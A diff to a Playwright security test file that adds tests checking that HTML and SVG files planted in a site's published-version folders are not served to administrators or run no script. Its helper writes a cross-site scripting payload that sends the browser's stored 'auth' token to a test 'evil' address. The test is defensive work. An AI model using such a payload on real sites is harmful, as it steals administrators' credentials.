@@ -1,11 +1,13 @@
+import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import path from 'node:path';
 import type { Page } from '@playwright/test';
 import { HOST } from '../tooling/network.ts';
-import type { Console } from './harness/consoles.ts';
+import { type Console, openLiveConsole } from './harness/consoles.ts';
 import { loadAll } from './harness/flipped.ts';
 import { failedRequest } from './harness/guard.ts';
-import { enterWithoutBackend } from './harness/nobody.ts';
+import { enterWithoutBackend, NO_BACKEND } from './harness/nobody.ts';
 import { heading, ROOMS } from './harness/rooms.ts';
 import { expect, test as base } from './harness/site.ts';
 
@@ -238,4 +240,49 @@ test('nobody can put another loader in the place of the one that sets the hashes
     return { same: window.__arenaLoadVerified === loader, made, nonces };
   });
   expect(tried).toEqual({ same: true, made: ['refused', 'refused'], nonces: 0 });
+});
+
+/** A page and a drawing that tell what an administrator's browser has stored. */
+const documentsOf = ({ address }: Evil) => {
+  const script = `<script>window.owned = true; new Image().src = '${address}?' + localStorage.getItem('auth');</script>`;
+  return { html: `<!doctype html><title>x</title>${script}`, svg: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` };
+};
+/** Writes both into a folder, and answers their names. */
+function writeDocuments(folder: string, evil: Evil, name = 'x'): readonly string[] {
+  mkdirSync(folder, { recursive: true });
+  return Object.entries(documentsOf(evil)).map(([kind, text]) => {
+    writeFileSync(path.join(folder, `${name}.${kind}`), text);
+    return `${name}.${kind}`;
+  });
+}
+
+test('a page or a drawing that someone wrote into the folder of published versions is not sent to an administrator', async ({
+  page,
+  site,
+  evil,
+  guard,
+}) => {
+  const live = await openLiveConsole(NO_BACKEND);
+  try {
+    await enterWithoutBackend(page, live.url, guard);
+    for (const version of ['mfe-rooms/9.9.9', 'mfe-rooms/1.0.0', 'shell/1.0.0'])
+      for (const file of writeDocuments(path.join(live.folder, version), evil)) {
+        const address = version.startsWith('shell/') ? `/${file}` : `/live/${version}/${file}`;
+        expect([address, (await page.goto(live.url + address))?.status()]).toEqual([address, 404]);
+        expect(await page.evaluate(() => 'owned' in window), address).toBe(false);
+      }
+  } finally {
+    await page.goto(site.url + ROOMS);
+    await live.close();
+  }
+});
+
+test("a page or a drawing on a section's own origin runs nothing when it is opened", async ({ page, site, evil }) => {
+  const section = site.section('mfe-rooms');
+  for (const file of writeDocuments(section.folder, evil)) {
+    expect((await page.goto(`${section.url}/${file}`))?.status()).toBe(200);
+    expect(await page.evaluate(() => ['owned' in window, self.origin]), file).toEqual([false, 'null']);
+    rmSync(path.join(section.folder, file));
+  }
+  await page.goto(site.url + ROOMS);
 });
